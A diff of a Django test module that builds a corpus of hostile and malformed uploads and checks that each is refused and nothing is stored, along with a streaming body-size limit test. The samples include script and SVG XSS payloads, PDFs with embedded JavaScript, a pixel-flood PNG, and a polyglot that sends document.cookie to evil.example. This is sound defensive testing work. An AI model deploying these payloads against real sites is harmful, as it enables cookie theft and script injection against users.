@@ -1,5 +1,6 @@
 """A corpus of hostile and broken files, generated here: each is refused with
 its code, and nothing of it is stored (no object, no File row)."""
+
 import io
 import struct
 import zlib
@@ -9,7 +10,7 @@ from django.test.client import ClientHandler
 
 from tenants.models import AuditEvent
 from tests.helpers import error_code
-from uploads.scanning import EICAR
+from uploads.pipeline.scanning import EICAR
 
 from .conftest import ACME, PDF, file_rows, image_bytes, multipart, settings_set, stored_keys
 
@@ -21,26 +22,48 @@ def png_chunk(kind: bytes, data: bytes) -> bytes:
 def pixel_flood_png(side: int = 30_000) -> bytes:
     """A few hundred bytes declaring side×side 1-bit pixels (900 Mpx)."""
     rows = zlib.compress(b"\x00" * (1 + side // 8) * 64)
-    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
-            + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b""))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
+        + png_chunk(b"IDAT", rows)
+        + png_chunk(b"IEND", b"")
+    )
 
 
 CORPUS = {
     "wrong extension": ("setup.exe", b"MZ\x90\x00\x03" + b"\x00" * 100, 415, "file_type_not_allowed"),
     "extension/content mismatch": ("photo.jpg", image_bytes("PNG"), 415, "file_type_mismatch"),
-    "HTML disguised as a PNG": ("cat.png", b"<!DOCTYPE html><html><script>alert(document.cookie)</script>",
-                                415, "file_type_mismatch"),
-    "SVG disguised as a JPEG": ("logo.jpg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
-                                415, "file_type_mismatch"),
+    "HTML disguised as a PNG": (
+        "cat.png",
+        b"<!DOCTYPE html><html><script>alert(document.cookie)</script>",
+        415,
+        "file_type_mismatch",
+    ),
+    "SVG disguised as a JPEG": (
+        "logo.jpg",
+        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+        415,
+        "file_type_mismatch",
+    ),
     "SVG as itself": ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>', 415, "file_type_not_allowed"),
-    "PDF with JavaScript": ("invoice.pdf", PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction "
-                                                       b"<</S /JavaScript /JS (app.alert(1))>>"),
-                            415, "file_type_not_allowed"),
-    "PDF with an escaped JavaScript name": ("invoice.pdf", PDF.replace(b"/Type /Catalog",
-                                                                       b"/Type /Catalog /AA <</S /J#61vaScript>>"),
-                                           415, "file_type_not_allowed"),
-    "JS/PDF polyglot": ("report.pdf", b"/*" + PDF + b"*/ fetch('https://evil.example/'+document.cookie);",
-                        415, "file_type_mismatch"),
+    "PDF with JavaScript": (
+        "invoice.pdf",
+        PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction <</S /JavaScript /JS (app.alert(1))>>"),
+        415,
+        "file_type_not_allowed",
+    ),
+    "PDF with an escaped JavaScript name": (
+        "invoice.pdf",
+        PDF.replace(b"/Type /Catalog", b"/Type /Catalog /AA <</S /J#61vaScript>>"),
+        415,
+        "file_type_not_allowed",
+    ),
+    "JS/PDF polyglot": (
+        "report.pdf",
+        b"/*" + PDF + b"*/ fetch('https://evil.example/'+document.cookie);",
+        415,
+        "file_type_mismatch",
+    ),
     "zero bytes": ("empty.png", b"", 400, "file_empty"),
     "truncated JPEG": ("cut.jpg", image_bytes("JPEG", size=(400, 300))[:600], 422, "invalid_image"),
     "truncated PNG": ("cut.png", image_bytes("PNG", size=(400, 300))[:-30], 422, "invalid_image"),
@@ -111,10 +134,19 @@ def test_an_oversized_body_is_cut_off_at_the_limit_not_read_to_its_end(people, a
             return data
 
     stream = CountingStream(body)
-    environ = {"REQUEST_METHOD": "POST", "PATH_INFO": "/api/upload", "SERVER_NAME": ACME, "SERVER_PORT": "80",
-               "HTTP_HOST": ACME, "CONTENT_TYPE": content_type, "CONTENT_LENGTH": str(len(body)),
-               "HTTP_AUTHORIZATION": f"Bearer {people['member']}", "wsgi.input": stream, "wsgi.url_scheme": "http",
-               "wsgi.errors": io.StringIO()}
+    environ = {
+        "REQUEST_METHOD": "POST",
+        "PATH_INFO": "/api/upload",
+        "SERVER_NAME": ACME,
+        "SERVER_PORT": "80",
+        "HTTP_HOST": ACME,
+        "CONTENT_TYPE": content_type,
+        "CONTENT_LENGTH": str(len(body)),
+        "HTTP_AUTHORIZATION": f"Bearer {people['member']}",
+        "wsgi.input": stream,
+        "wsgi.url_scheme": "http",
+        "wsgi.errors": io.StringIO(),
+    }
     response = ClientHandler()(environ)
 
     response.render()
